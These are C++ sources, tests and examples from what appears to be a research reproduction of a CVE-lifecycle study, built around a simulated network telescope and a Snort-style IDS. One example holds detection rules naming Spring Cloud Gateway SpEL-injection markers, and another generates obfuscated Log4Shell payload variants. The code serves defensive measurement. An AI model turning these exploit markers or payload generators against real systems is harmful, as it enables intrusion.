  const auto& paper = report::paper_table4_satisfied();
  ASSERT_EQ(result().table4.rows.size(), paper.size());
  for (std::size_t i = 0; i < paper.size(); ++i) {
    EXPECT_NEAR(result().table4.rows[i].satisfied, paper[i], 0.06)
        << result().table4.rows[i].desideratum;
  }
}

TEST_F(PipelineTest, Table5PerEventMitigationNearPaper) {
  for (const auto& row : result().table5.rows) {
    if (row.desideratum == "D < A") {
      EXPECT_NEAR(row.satisfied, 0.95, 0.04);
    }
    if (row.desideratum == "P < A") {
      EXPECT_GT(row.satisfied, 0.93);
    }
    if (row.desideratum == "F < P") {
      EXPECT_LT(row.satisfied, 0.06);
    }
    if (row.desideratum == "V < A") {
      EXPECT_GT(row.satisfied, 0.95);
    }
  }
}

TEST_F(PipelineTest, ExposureSplitMatchesFindings) {
  const auto& exposure = result().exposure;
  // Table 5 / Finding 10: ~95 % of exploit events arrive mitigated.
  EXPECT_NEAR(exposure.mitigated_fraction(), 0.95, 0.04);
  // Finding 12: ~half of unmitigated exposure within 30 days of P.
  EXPECT_NEAR(exposure.unmitigated_within(30.0), 0.50, 0.15);
}

TEST_F(PipelineTest, EventCountsScaleWithAppendix) {
  const double scale = config().event_scale;
  for (const auto& [cve, rec_cve] : result().reconstruction.per_cve) {
    const auto* rec = data::find_cve(cve);
    if (rec == nullptr || !rec->first_attack()) continue;
    const auto expected = static_cast<double>(rec->events) * scale;
    EXPECT_NEAR(static_cast<double>(rec_cve.exploit_events), expected,
                std::max(3.0, expected * 0.1))
        << cve;
  }
}

TEST_F(PipelineTest, DeploymentDelayAblationWeakensMitigation) {
  StudyConfig delayed = config();
  delayed.reconstruct.deployment_delay = util::Duration::days(30);
  const StudyResult slow = run_study(delayed);
  double base_rate = 0;
  double slow_rate = 0;
  for (const auto& row : result().table5.rows) {
    if (row.desideratum == "D < A") base_rate = row.satisfied;
  }
  for (const auto& row : slow.table5.rows) {
    if (row.desideratum == "D < A") slow_rate = row.satisfied;
  }
  EXPECT_LT(slow_rate, base_rate - 0.03);  // §5 fn. 2
}

TEST_F(PipelineTest, UniqueIpTallyMatchesSetBaseline) {
  // The tally is computed by sort+unique over a flat vector (the corpus
  // holds millions of sessions at full scale); it must agree exactly with
  // the straightforward std::set method it replaced.
  std::set<std::uint32_t> dst_ips;
  std::set<std::uint32_t> src_ips;
  for (const auto& session : result().traffic.sessions) {
    dst_ips.insert(session.dst.value());
    src_ips.insert(session.src.value());
  }
  EXPECT_EQ(result().unique_telescope_ips, dst_ips.size());
  EXPECT_EQ(result().unique_source_ips, src_ips.size());
}

TEST_F(PipelineTest, TelescopeCountersPopulated) {
  EXPECT_GT(result().unique_telescope_ips, 1000u);
  EXPECT_GT(result().unique_source_ips, 1000u);
  EXPECT_EQ(result().reconstruction.sessions_scanned, result().traffic.sessions.size());
}

}  // namespace
}  // namespace cvewb::pipeline
