// Golden determinism: run_study with threads=1 (every shard inline, the
// serial reference path) and threads=4 must produce byte-identical
// StudyResults -- sessions, ground-truth tags, fault log, reconstruction,
// Table 4/5 rows, exposure split -- for every tested seed, with and
// without an active fault plan.  This is the proof obligation behind the
// sharded engine's contract (DESIGN.md, "Sharding & determinism").
#include <gtest/gtest.h>

#include <sstream>
#include <string>

#include "pipeline/study.h"
#include "util/sha256.h"

namespace cvewb::pipeline {
namespace {

void put_time(std::ostringstream& out, util::TimePoint t) { out << t.unix_seconds() << ' '; }

/// Exact byte serialization of everything the study reports.  Doubles are
/// written as hexfloat so equality means bit-equality.
std::string serialize_study(const StudyResult& r) {
  std::ostringstream out;
  out << std::hexfloat;

  out << "sessions " << r.traffic.sessions.size() << '\n';
  for (const auto& s : r.traffic.sessions) {
    out << s.id << ' ';
    put_time(out, s.open_time);
    out << s.src.value() << ' ' << s.dst.value() << ' ' << s.src_port << ' ' << s.dst_port << ' '
        << s.payload.size() << ':' << s.payload << '\n';
  }
  out << "tags " << r.traffic.tags.size() << '\n';
  for (const auto& tag : r.traffic.tags) {
    out << static_cast<int>(tag.kind) << ' ' << tag.cve_id << ' ' << tag.sid << '\n';
  }

  out << "fault_log " << r.fault_log.sessions_in << ' ' << r.fault_log.sessions_out << '\n';
  for (const auto count : r.fault_log.counts) out << count << ' ';
  out << '\n';
  for (const auto& record : r.fault_log.records) {
    out << static_cast<int>(record.kind) << ' ' << record.session_id << ' ' << record.detail
        << '\n';
  }
  for (const auto& w : r.fault_log.blackouts) {
    out << w.lane << ' ';
    put_time(out, w.begin);
    put_time(out, w.end);
    out << '\n';
  }

  const auto& rec = r.reconstruction;
  out << "reconstruction " << rec.sessions_scanned << ' ' << rec.sessions_matched << '\n';
  out << rec.quality.sessions_in << ' ' << rec.quality.duplicates_removed << ' '
      << rec.quality.timestamps_clamped << ' ' << rec.quality.empty_payloads << ' '
      << rec.quality.non_http_payloads << ' ' << rec.quality.truncated_http << ' '
      << rec.quality.match_errors << '\n';
  for (const auto& verdict : rec.rca.verdicts) {
    out << verdict.cve_id << ' ' << (verdict.kept ? 1 : 0) << '\n';
  }
  for (const auto& [cve_id, cve] : rec.per_cve) {
    out << cve_id << ' ' << cve.exploit_events << ' ' << cve.untargeted_sessions << ' ';
    put_time(out, cve.first_attack);
    out << '\n';
  }
  for (const auto& event : rec.events) {
    out << event.cve_id << ' ';
    put_time(out, event.time);
    out << '\n';
  }
  for (const auto& tl : rec.timelines) {
    out << tl.cve_id();
    for (const auto event : lifecycle::kAllEvents) {
      out << ' ';
      if (const auto t = tl.at(event)) {
        out << t->unix_seconds();
      } else {
        out << '-';
      }
    }
    out << '\n';
  }

  for (const auto* table : {&r.table4, &r.table5}) {
    out << "table\n";
    for (const auto& row : table->rows) {
      out << row.desideratum << ' ' << row.satisfied << ' ' << row.baseline << ' ' << row.skill
          << ' ' << row.evaluated << '\n';
    }
  }
  out << "exposure\n";
  for (const double d : r.exposure.mitigated_days) out << d << ' ';
  out << '\n';
  for (const double d : r.exposure.unmitigated_days) out << d << ' ';
  out << '\n';
  out << "unique " << r.unique_telescope_ips << ' ' << r.unique_source_ips << '\n';
  return out.str();
}

StudyConfig small_config(std::uint64_t seed, int threads, bool with_faults) {
  StudyConfig config;
  config.seed = seed;
  config.threads = threads;
  config.event_scale = 0.03;
  config.background_per_day = 5.0;
  config.credstuff_per_day = 1.0;
  config.telescope_lanes = 10;
  config.pool_size = 50000;
  if (with_faults) {
    config.faults.blackout_count = 2;
    config.faults.blackout_duration = util::Duration::hours(12);
    config.faults.session_loss_rate = 0.03;
    config.faults.snaplen = 300;
    config.faults.corruption_rate = 0.02;
    config.faults.duplication_rate = 0.04;
    config.faults.reorder_rate = 0.05;
    config.faults.clock_skew_max = util::Duration::minutes(10);
    config.faults.lanes = 10;
  }
  return config;
}

class ParallelDeterminism : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(ParallelDeterminism, PristineRunIsByteIdenticalAcrossThreadCounts) {
  const std::string serial = serialize_study(run_study(small_config(GetParam(), 1, false)));
  const std::string parallel = serialize_study(run_study(small_config(GetParam(), 4, false)));
  // Compare digests first for a readable failure, then the full bytes so
  // a regression pinpoints the first diverging record.
  ASSERT_EQ(util::sha256_hex(serial), util::sha256_hex(parallel));
  ASSERT_EQ(serial, parallel);
}

TEST_P(ParallelDeterminism, FaultedRunIsByteIdenticalAcrossThreadCounts) {
  const std::string serial = serialize_study(run_study(small_config(GetParam(), 1, true)));
  const std::string parallel = serialize_study(run_study(small_config(GetParam(), 4, true)));
  ASSERT_EQ(util::sha256_hex(serial), util::sha256_hex(parallel));
  ASSERT_EQ(serial, parallel);
}

TEST_P(ParallelDeterminism, HardwareConcurrencyAgreesWithSerial) {
  // threads=0 resolves to whatever the host offers; output must not care.
  const std::string serial = serialize_study(run_study(small_config(GetParam(), 1, true)));
  const std::string hw = serialize_study(run_study(small_config(GetParam(), 0, true)));
  ASSERT_EQ(serial, hw);
}

INSTANTIATE_TEST_SUITE_P(Seeds, ParallelDeterminism,
                         ::testing::Values(11ULL, 5081ULL, 900913ULL),
                         [](const auto& info) { return "seed_" + std::to_string(info.param); });

}  // namespace
}  // namespace cvewb::pipeline
