// Golden determinism: run_study with threads=1 (every shard inline, the
// serial reference path) and threads=4 must produce byte-identical
// StudyResults -- sessions, ground-truth tags, fault log, reconstruction,
// Table 4/5 rows, exposure split -- for every tested seed, with and
// without an active fault plan.  This is the proof obligation behind the
// sharded engine's contract (DESIGN.md, "Sharding & determinism").
#include <gtest/gtest.h>

#include <string>

#include "pipeline/study.h"
#include "util/sha256.h"

#include "../support/study_serialize.h"

namespace cvewb::pipeline {
namespace {

using test_support::serialize_study;

StudyConfig small_config(std::uint64_t seed, int threads, bool with_faults) {
  StudyConfig config;
  config.seed = seed;
  config.threads = threads;
  config.event_scale = 0.03;
  config.background_per_day = 5.0;
  config.credstuff_per_day = 1.0;
  config.telescope_lanes = 10;
  config.pool_size = 50000;
  if (with_faults) {
    config.faults.blackout_count = 2;
    config.faults.blackout_duration = util::Duration::hours(12);
    config.faults.session_loss_rate = 0.03;
    config.faults.snaplen = 300;
    config.faults.corruption_rate = 0.02;
    config.faults.duplication_rate = 0.04;
    config.faults.reorder_rate = 0.05;
    config.faults.clock_skew_max = util::Duration::minutes(10);
    config.faults.lanes = 10;
  }
  return config;
}

class ParallelDeterminism : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(ParallelDeterminism, PristineRunIsByteIdenticalAcrossThreadCounts) {
  const std::string serial = serialize_study(run_study(small_config(GetParam(), 1, false)));
  const std::string parallel = serialize_study(run_study(small_config(GetParam(), 4, false)));
  // Compare digests first for a readable failure, then the full bytes so
  // a regression pinpoints the first diverging record.
  ASSERT_EQ(util::sha256_hex(serial), util::sha256_hex(parallel));
  ASSERT_EQ(serial, parallel);
}

TEST_P(ParallelDeterminism, FaultedRunIsByteIdenticalAcrossThreadCounts) {
  const std::string serial = serialize_study(run_study(small_config(GetParam(), 1, true)));
  const std::string parallel = serialize_study(run_study(small_config(GetParam(), 4, true)));
  ASSERT_EQ(util::sha256_hex(serial), util::sha256_hex(parallel));
  ASSERT_EQ(serial, parallel);
}

TEST_P(ParallelDeterminism, HardwareConcurrencyAgreesWithSerial) {
  // threads=0 resolves to whatever the host offers; output must not care.
  const std::string serial = serialize_study(run_study(small_config(GetParam(), 1, true)));
  const std::string hw = serialize_study(run_study(small_config(GetParam(), 0, true)));
  ASSERT_EQ(serial, hw);
}

INSTANTIATE_TEST_SUITE_P(Seeds, ParallelDeterminism,
                         ::testing::Values(11ULL, 5081ULL, 900913ULL),
                         [](const auto& info) { return "seed_" + std::to_string(info.param); });

}  // namespace
}  // namespace cvewb::pipeline
