// The "wayback" workflow that names the paper: capture traffic once, write
// it to pcap, then -- months later, when a new CVE and its signature
// appear -- re-evaluate the archive post-facto and reconstruct the
// vulnerability's full lifecycle retroactively.
#include <iostream>
#include <sstream>

#include "lifecycle/windows.h"
#include "ids/rule_gen.h"
#include "net/pcap.h"
#include "pipeline/study.h"
#include "report/table.h"

int main() {
  using namespace cvewb;

  // --- Phase 1 (collection time): the telescope records everything it
  // sees to a pcap archive.  Nobody knows yet which sessions matter.
  pipeline::StudyConfig config;
  config.seed = 1388;
  config.event_scale = 0.2;
  config.background_per_day = 10.0;
  const auto dscope = pipeline::make_study_telescope(config);
  traffic::InternetConfig internet;
  internet.seed = config.seed;
  internet.event_scale = config.event_scale;
  internet.background_per_day = config.background_per_day;
  const auto traffic = traffic::generate_traffic(dscope, internet);

  std::stringstream archive;
  {
    net::PcapWriter writer(archive);
    for (const auto& session : traffic.sessions) writer.write_session(session);
    std::cout << "archived " << writer.packets_written() << " sessions to pcap ("
              << archive.str().size() / 1024 << " KiB)\n";
  }

  // --- Phase 2 (analysis time): signatures published since -- including
  // ones released long after the traffic was captured -- are evaluated
  // over the archive.
  net::PcapReader reader(archive);
  std::cout << "replayed " << reader.sessions().size() << " sessions from the archive\n";

  const auto ruleset = ids::generate_study_ruleset();
  const auto reconstruction = pipeline::reconstruct(reader.sessions(), ruleset);
  std::cout << "lifecycles reconstructed: " << reconstruction.timelines.size() << " CVEs\n";

  // --- Phase 3: time-travel into one vulnerability.  F5 BIG-IP iControl
  // (CVE-2022-1388) is the study's starkest case: both the IDS rule and
  // in-the-wild exploitation predate the CVE's publication by more than a
  // year.
  const std::string target = "CVE-2022-1388";
  for (const auto& tl : reconstruction.timelines) {
    if (tl.cve_id() != target) continue;
    std::cout << "\n=== lifecycle of " << target << " ===\n";
    report::TextTable table({"event", "instant", "relative to publication"});
    const auto published = *tl.at(lifecycle::Event::kPublicAwareness);
    for (lifecycle::Event e : lifecycle::kAllEvents) {
      const auto t = tl.at(e);
      table.add_row({std::string(lifecycle::event_name(e)),
                     t ? util::format_datetime(*t) : std::string("-"),
                     t ? util::format_offset(*t - published) : std::string("-")});
    }
    std::cout << table.render();
    const auto window = tl.diff(lifecycle::Event::kAttacks, lifecycle::Event::kFixDeployed);
    if (window) {
      std::cout << "\nwindow of vulnerability (A -> D): " << util::format_offset(*window)
                << " -- attacks ran for days before coverage existed, a year before the\n"
                   "CVE became public.  Only a retrospective archive can see this.\n";
    }
  }
  return 0;
}
