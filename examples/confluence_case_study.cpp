// Appendix C: the Atlassian Confluence OGNL-injection CVE (2022-26134) --
// rapid post-disclosure exploitation, highly effective IDS coverage, and
// the untargeted-exploitation phenomenon (Finding 19): generic OGNL
// scanning that exploited Confluence *before the CVE existed*.
#include <iostream>

#include "ids/matcher.h"
#include "ids/rule_gen.h"
#include "pipeline/study.h"
#include "report/table.h"

int main() {
  using namespace cvewb;

  pipeline::StudyConfig config;
  config.seed = 26134;
  config.event_scale = 0.1;
  config.background_per_day = 10.0;
  const auto result = pipeline::run_study(config);
  const auto* rec = data::find_cve("CVE-2022-26134");

  std::cout << "=== CVE-2022-26134 (Atlassian Confluence OGNL injection) ===\n";
  std::cout << "published:       " << util::format_date(rec->published) << "\n";
  std::cout << "IDS coverage:    " << util::format_offset(*rec->d_minus_p)
            << " after publication\n";
  std::cout << "public exploit:  " << util::format_offset(*rec->x_minus_p) << "\n\n";

  const auto& per_cve = result.reconstruction.per_cve.at(rec->id);
  std::cout << "targeted exploit sessions captured: " << per_cve.exploit_events << "\n";
  std::cout << "untargeted OGNL sessions before publication: " << per_cve.untargeted_sessions
            << "\n\n";

  // Finding 19's punchline: inspect one untargeted session and show that
  // the Confluence signature matches it even though the scanner aimed at
  // a random port long before the CVE was known.
  const ids::Matcher matcher(result.ruleset.rules());
  for (const auto& session : result.traffic.sessions) {
    if (session.open_time >= rec->published) break;
    const ids::Rule* rule = matcher.earliest_published_match(session);
    if (rule == nullptr || rule->cve != rec->id) continue;
    std::cout << "example untargeted session (" << util::format_date(session.open_time)
              << ", dst port " << session.dst_port << " -- not Confluence's "
              << rec->service_port << "):\n"
              << session.payload.substr(0, 160) << "...\n\n";
    std::cout << "The payload is a general-purpose OGNL probe, yet it would achieve RCE\n"
                 "on vulnerable Confluence: exploits transfer to products that embed the\n"
                 "same parsing behaviour.  Telescopes can surface such novel-victim\n"
                 "exposure before a CVE is ever assigned (Finding 19).\n\n";
    break;
  }

  // Mitigation effectiveness (Finding 18: 99.6 % in the paper's data).
  std::size_t mitigated = 0;
  std::size_t total = 0;
  const auto deployed = *rec->fix_deployed();
  for (const auto& event : result.reconstruction.events) {
    if (event.cve_id != rec->id) continue;
    ++total;
    mitigated += event.time >= deployed ? 1 : 0;
  }
  std::cout << "sessions arriving after IDS coverage: " << mitigated << " of " << total << " ("
            << report::fmt(100.0 * static_cast<double>(mitigated) /
                               static_cast<double>(total ? total : 1),
                           1)
            << "%)\n";
  return 0;
}
