// Author your own Snort-subset rule, run it over simulated telescope
// traffic, and get detections plus a root-cause-analysis verdict -- the
// workflow an IDS analyst would use on top of this library.
#include <iostream>

#include "ids/matcher.h"
#include "ids/rca.h"
#include "ids/rule_parser.h"
#include "pipeline/study.h"
#include "report/table.h"

int main() {
  using namespace cvewb;

  // Two user-authored rules: a precise one for the Spring Cloud Gateway
  // actuator exploit, and a sloppy one that fires on any /actuator access
  // (the kind of unsound signature §3.2's review exists to catch).
  const char* rule_text =
      "alert tcp any any -> any [8080] (msg:\"Spring Cloud Gateway SpEL injection\"; "
      "content:\"/actuator/gateway/routes\"; http_uri; nocase; "
      "content:\"#{T(\"; http_client_body; "
      "metadata: cve CVE-2022-22947, published 2022-03-25; sid:900001;)\n"
      "alert tcp any any -> any any (msg:\"actuator endpoint access\"; "
      "content:\"/actuator\"; http_uri; nocase; "
      "metadata: cve CVE-2022-90999, published 2022-03-25, policy broad; sid:900002;)\n";

  std::cout << "=== Parsing user ruleset ===\n" << rule_text << "\n";
  ids::RuleSet ruleset(ids::parse_rules(rule_text));

  // Generate a slice of telescope traffic to hunt in.
  pipeline::StudyConfig config;
  config.seed = 22947;
  config.event_scale = 0.5;
  config.background_per_day = 20.0;
  const auto dscope = pipeline::make_study_telescope(config);
  traffic::InternetConfig internet;
  internet.seed = config.seed;
  internet.event_scale = config.event_scale;
  internet.background_per_day = config.background_per_day;
  const auto traffic = traffic::generate_traffic(dscope, internet);
  std::cout << "captured sessions: " << traffic.sessions.size() << "\n";

  // Post-facto evaluation, port-insensitive as in §3.1.
  const ids::Matcher matcher(ruleset.rules());
  std::vector<ids::Detection> detections;
  for (const auto& session : traffic.sessions) {
    const ids::Rule* rule = matcher.earliest_published_match(session);
    if (rule != nullptr) detections.push_back({rule, &session});
  }
  std::cout << "sessions matching the user rules: " << detections.size() << "\n";

  // Root-cause analysis: the precise rule survives, the broad one doesn't.
  const ids::RcaReport report = ids::root_cause_analysis(detections);
  report::TextTable table({"CVE", "detections", "pre-publication", "verdict", "reason"});
  for (const auto& verdict : report.verdicts) {
    table.add_row({verdict.cve_id, std::to_string(verdict.detections),
                   std::to_string(verdict.pre_publication),
                   verdict.kept ? "kept" : "dropped", verdict.reason});
  }
  std::cout << "\n=== Root-cause analysis ===\n" << table.render();

  // Show one surviving detection.
  for (const auto& detection : report.kept_detections) {
    std::cout << "\nexample detection (sid " << detection.rule->sid << ", "
              << util::format_datetime(detection.session->open_time) << ", dst port "
              << detection.session->dst_port << "):\n"
              << detection.session->payload.substr(0, 200) << "\n";
    break;
  }
  return 0;
}
