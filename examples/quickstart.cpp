// Quickstart: run a down-scaled two-year study end-to-end and print the
// headline result (Table 4's CVD skill).
//
//   $ ./examples/quickstart
//
// The pipeline: a DSCOPE-style telescope simulator collects synthetic
// Internet scanning traffic -> a Snort-subset IDS matches it post-facto ->
// root-cause analysis weeds out unsound signatures -> the surviving
// exploit events are joined with the public datasets into CVE lifecycles
// -> the CERT skill model scores coordinated disclosure.
#include <iostream>

#include "pipeline/study.h"
#include "report/table.h"

int main() {
  using namespace cvewb;

  pipeline::StudyConfig config;
  config.seed = 42;
  config.event_scale = 0.1;  // 10 % of the full ~117 k exploit events
  config.background_per_day = 20.0;

  std::cout << "Running the CVE Wayback Machine study (scale "
            << config.event_scale << ")...\n";
  const pipeline::StudyResult result = pipeline::run_study(config);

  std::cout << "\nsessions captured:  " << result.traffic.sessions.size() << "\n";
  std::cout << "sessions matched:   " << result.reconstruction.sessions_matched << "\n";
  std::cout << "CVEs reconstructed: " << result.reconstruction.timelines.size()
            << " (after root-cause analysis dropped "
            << result.reconstruction.rca.dropped_cves() << " unsound signature group)\n";

  std::cout << "\nTable 4 -- CVD skill across the studied CVEs:\n";
  std::cout << report::render_skill_table(result.table4, &report::paper_table4_satisfied(),
                                          &report::paper_table4_skill());
  std::cout << "mean skill: " << report::fmt(result.table4.mean_skill())
            << " (paper: 0.37)\n";

  std::cout << "\nQuantitative exposure (Table 5 headline): "
            << report::fmt(result.exposure.mitigated_fraction() * 100, 1)
            << "% of exploit sessions arrived after an IDS mitigation was deployed "
               "(paper: 95%).\n";
  return 0;
}
