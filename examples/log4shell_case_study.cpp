// Log4Shell (CVE-2021-44228) case study, §7.1: replay December 2021.
//
// Shows the variant arms race: signature groups A-E (Table 6) chasing
// increasingly obfuscated jndi lookups, with per-variant payload crafting
// and matcher-based attribution.
#include <iostream>
#include <map>

#include "ids/matcher.h"
#include "ids/rule_gen.h"
#include "pipeline/study.h"
#include "report/table.h"
#include "traffic/obfuscation.h"

int main() {
  using namespace cvewb;

  // 1. The payload zoo: render one sample payload per Table-6 variant.
  std::cout << "=== Log4Shell payload variants ===\n";
  util::Rng rng(2021);
  for (const auto& variant : data::log4shell_variants()) {
    const std::string injection = traffic::log4shell_injection(variant, rng);
    std::cout << "sid " << variant.sid << " (group " << variant.group << ", "
              << data::to_string(variant.context) << "): " << injection << "\n";
  }

  // 2. Replay a scaled study and attribute Log4Shell sessions to variants.
  pipeline::StudyConfig config;
  config.seed = 44228;
  config.event_scale = 0.25;
  config.background_per_day = 5.0;
  const auto result = pipeline::run_study(config);
  const auto* rec = data::find_cve("CVE-2021-44228");

  const ids::Matcher matcher(result.ruleset.rules());
  std::map<char, int> by_group;
  std::map<char, util::TimePoint> group_first;
  for (const auto& session : result.traffic.sessions) {
    const ids::Rule* rule = matcher.earliest_published_match(session);
    if (rule == nullptr || rule->cve != rec->id) continue;
    char group = '?';
    for (const auto& variant : data::log4shell_variants()) {
      if (variant.sid == rule->sid) group = variant.group;
    }
    ++by_group[group];
    if (!group_first.count(group) || session.open_time < group_first[group]) {
      group_first[group] = session.open_time;
    }
  }

  std::cout << "\n=== December 2021 arms race (matcher attribution) ===\n";
  report::TextTable table({"group", "sessions", "first seen (vs publication)"});
  for (const auto& [group, count] : by_group) {
    table.add_row({std::string(1, group), std::to_string(count),
                   util::format_offset(group_first.at(group) - rec->published)});
  }
  std::cout << table.render();

  std::cout << "\nFinding 14: groups B-E respond to evasions (escape sequences, SMTP\n"
               "carriers, method injection) that defeated the group-A signatures.\n";
  return 0;
}
