// Compare telescope-observed exploitation with CISA's Known Exploited
// Vulnerabilities catalog (§7.2): can an interactive telescope provide
// earlier situational awareness than manual reporting?
#include <algorithm>
#include <iostream>

#include "data/kev.h"
#include "lifecycle/kev_compare.h"
#include "report/table.h"

int main() {
  using namespace cvewb;

  const data::KevCatalog catalog = data::synthesize_kev();
  const auto timelines = lifecycle::study_timelines();
  const auto cmp = lifecycle::compare_with_kev(catalog, timelines);

  std::cout << "=== DSCOPE vs CISA KEV ===\n";
  std::cout << "KEV entries published in-window: " << catalog.entries.size() << "\n";
  std::cout << "studied CVEs also in KEV: " << cmp.shared << " ("
            << report::fmt(cmp.shared_fraction() * 100, 0) << "%)\n";
  std::cout << "telescope observed exploitation first: " << cmp.dscope_first << " ("
            << report::fmt(cmp.dscope_first_fraction() * 100, 0) << "%)\n";
  std::cout << "telescope lead exceeded 30 days: " << cmp.dscope_first_30d << " ("
            << report::fmt(cmp.dscope_first_30d_fraction() * 100, 0) << "%)\n";

  // The CVEs where the telescope's lead was largest -- the cases where
  // automated traffic analysis would have accelerated KEV the most.
  auto deltas = lifecycle::shared_deltas(catalog, timelines);
  std::sort(deltas.begin(), deltas.end(),
            [](const auto& a, const auto& b) { return a.delta_days < b.delta_days; });
  std::cout << "\nlargest telescope leads (days before KEV addition):\n";
  report::TextTable table({"CVE", "lead (days)"});
  for (std::size_t i = 0; i < 8 && i < deltas.size(); ++i) {
    table.add_row({deltas[i].cve_id, report::fmt(-deltas[i].delta_days, 0)});
  }
  std::cout << table.render();

  std::cout << "\nRecommendation 3 (paper): feed interactive-telescope detections into\n"
               "exploited-vulnerability catalogs to cut the reporting lag.\n";
  return 0;
}
