#include "telescope/instance.h"

// Instance is a plain record; implementation intentionally empty.
