#include "telescope/dscope.h"

#include <algorithm>
#include <set>
#include <stdexcept>
#include <string>
#include <string_view>
#include <tuple>

namespace cvewb::telescope {

Dscope::Dscope(DscopeConfig config, IpPool pool)
    : config_(config), pool_(std::move(pool)) {
  if (config_.lanes <= 0) throw std::invalid_argument("Dscope: lanes must be > 0");
  if (config_.lifetime.total_seconds() <= 0) {
    throw std::invalid_argument("Dscope: lifetime must be positive");
  }
  if (!(config_.begin < config_.end)) throw std::invalid_argument("Dscope: empty window");
}

std::int64_t Dscope::slot_of(util::TimePoint t) const {
  const std::int64_t rel = (t - config_.begin).total_seconds();
  const std::int64_t lifetime = config_.lifetime.total_seconds();
  // Floor division (times before `begin` land in negative slots).
  std::int64_t slot = rel / lifetime;
  if (rel < 0 && rel % lifetime != 0) --slot;
  return slot;
}

std::uint64_t Dscope::pool_index(int lane, std::int64_t slot) const {
  std::uint64_t h = config_.seed;
  h ^= static_cast<std::uint64_t>(lane) * 0x9e3779b97f4a7c15ULL;
  util::splitmix64(h);
  h ^= static_cast<std::uint64_t>(slot) * 0xbf58476d1ce4e5b9ULL;
  return util::splitmix64(h) % pool_.size();
}

Instance Dscope::instance_at(int lane, util::TimePoint t) const {
  if (lane < 0 || lane >= config_.lanes) throw std::out_of_range("Dscope: bad lane");
  const std::int64_t slot = slot_of(t);
  Instance inst;
  inst.lane = lane;
  inst.slot = slot;
  inst.ip = pool_.address_at(pool_index(lane, slot));
  inst.start = config_.begin + util::Duration(slot * config_.lifetime.total_seconds());
  inst.end = inst.start + config_.lifetime;
  return inst;
}

Instance Dscope::sample_active(util::TimePoint t, util::Rng& rng) const {
  const int lane = static_cast<int>(rng.uniform_u64(static_cast<std::uint64_t>(config_.lanes)));
  return instance_at(lane, t);
}

std::optional<Instance> Dscope::holder_of(net::IPv4 addr, util::TimePoint t) const {
  for (int lane = 0; lane < config_.lanes; ++lane) {
    const Instance inst = instance_at(lane, t);
    if (inst.ip == addr) return inst;
  }
  return std::nullopt;
}

std::int64_t Dscope::total_instance_slots() const {
  const std::int64_t window = (config_.end - config_.begin).total_seconds();
  const std::int64_t per_lane =
      (window + config_.lifetime.total_seconds() - 1) / config_.lifetime.total_seconds();
  return per_lane * config_.lanes;
}

void SessionStore::add(net::TcpSession session) {
  session.id = sessions_.size();
  sessions_.push_back(std::move(session));
}

void SessionStore::sort_by_time() {
  const auto identity = [](const net::TcpSession& s) {
    return std::tuple(s.open_time, s.src.value(), s.dst.value(), s.src_port, s.dst_port,
                      std::string_view(s.payload), s.id);
  };
  std::sort(sessions_.begin(), sessions_.end(),
            [&identity](const net::TcpSession& a, const net::TcpSession& b) {
              return identity(a) < identity(b);
            });
}

std::size_t SessionStore::dedup() {
  std::set<std::tuple<std::int64_t, std::uint32_t, std::uint32_t, std::uint16_t, std::uint16_t,
                      std::string>>
      seen;
  const std::size_t before = sessions_.size();
  std::vector<net::TcpSession> kept;
  kept.reserve(sessions_.size());
  for (auto& session : sessions_) {
    auto key = std::tuple(session.open_time.unix_seconds(), session.src.value(),
                          session.dst.value(), session.src_port, session.dst_port,
                          session.payload);
    if (!seen.insert(std::move(key)).second) continue;
    kept.push_back(std::move(session));
  }
  sessions_ = std::move(kept);
  return before - sessions_.size();
}

std::size_t SessionStore::unique_sources() const {
  std::set<std::uint32_t> ips;
  for (const auto& s : sessions_) ips.insert(s.src.value());
  return ips.size();
}

std::size_t SessionStore::unique_destinations() const {
  std::set<std::uint32_t> ips;
  for (const auto& s : sessions_) ips.insert(s.dst.value());
  return ips.size();
}

}  // namespace cvewb::telescope
