#include "telescope/darknet.h"

namespace cvewb::telescope {

bool Darknet::observe(const net::TcpSession& session, DarknetObservation& out) const {
  if (!prefix_.contains(session.dst)) return false;
  out.time = session.open_time;
  out.src = session.src;
  out.dst = session.dst;
  out.dst_port = session.dst_port;
  return true;
}

std::vector<DarknetObservation> Darknet::observe_all(
    const std::vector<net::TcpSession>& sessions) const {
  std::vector<DarknetObservation> out;
  DarknetObservation observation;
  for (const auto& session : sessions) {
    if (observe(session, observation)) out.push_back(observation);
  }
  return out;
}

}  // namespace cvewb::telescope
