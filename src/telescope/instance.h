// Telescope instance identity.
//
// DSCOPE keeps ~300 cloud instances alive at any moment; each accepts TCP
// on all ports for a fixed lifetime (~10 minutes, the optimum found in the
// DSCOPE paper) and is then replaced, landing on a new pseudorandom IP.
// An instance is identified by its (lane, slot): lane = which of the ~300
// concurrent positions, slot = lifetime-sized time bucket.
#pragma once

#include <cstdint>

#include "net/ipv4.h"
#include "util/datetime.h"

namespace cvewb::telescope {

struct Instance {
  int lane = 0;
  std::int64_t slot = 0;
  net::IPv4 ip;
  util::TimePoint start;
  util::TimePoint end;  // exclusive

  bool active_at(util::TimePoint t) const { return start <= t && t < end; }
};

}  // namespace cvewb::telescope
