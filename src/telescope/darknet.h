// A conventional (passive) darknet telescope, for comparison with DSCOPE.
//
// §3.1 motivates the interactive design: darknet telescopes never complete
// the TCP handshake, so they observe connection *attempts* (SYN metadata)
// but no application-layer payload -- which makes signature-based CVE
// identification impossible.  This model captures exactly that: the same
// probe stream, stripped to layer-4 metadata.  bench_ablation quantifies
// the difference (63 identifiable CVEs vs 0).
#pragma once

#include <vector>

#include "net/tcp_session.h"
#include "net/ipv4.h"
#include "util/datetime.h"

namespace cvewb::telescope {

/// A SYN observed by a passive telescope: no payload, ever.
struct DarknetObservation {
  util::TimePoint time;
  net::IPv4 src;
  net::IPv4 dst;
  std::uint16_t dst_port = 0;
};

class Darknet {
 public:
  /// Monitors `prefix`; observes any session whose destination falls
  /// inside it.  Pass the full pool as a prefix to model "the same traffic
  /// without interactivity".
  explicit Darknet(net::Prefix prefix) : prefix_(prefix) {}

  const net::Prefix& prefix() const { return prefix_; }

  /// Strip a captured session to what a passive telescope would have seen.
  /// Returns false (not observed) when the destination is outside the
  /// monitored prefix.
  bool observe(const net::TcpSession& session, DarknetObservation& out) const;

  /// Batch helper: observations for every in-prefix session.
  std::vector<DarknetObservation> observe_all(
      const std::vector<net::TcpSession>& sessions) const;

 private:
  net::Prefix prefix_;
};

}  // namespace cvewb::telescope
