#include "telescope/ip_pool.h"

#include <algorithm>
#include <stdexcept>

namespace cvewb::telescope {

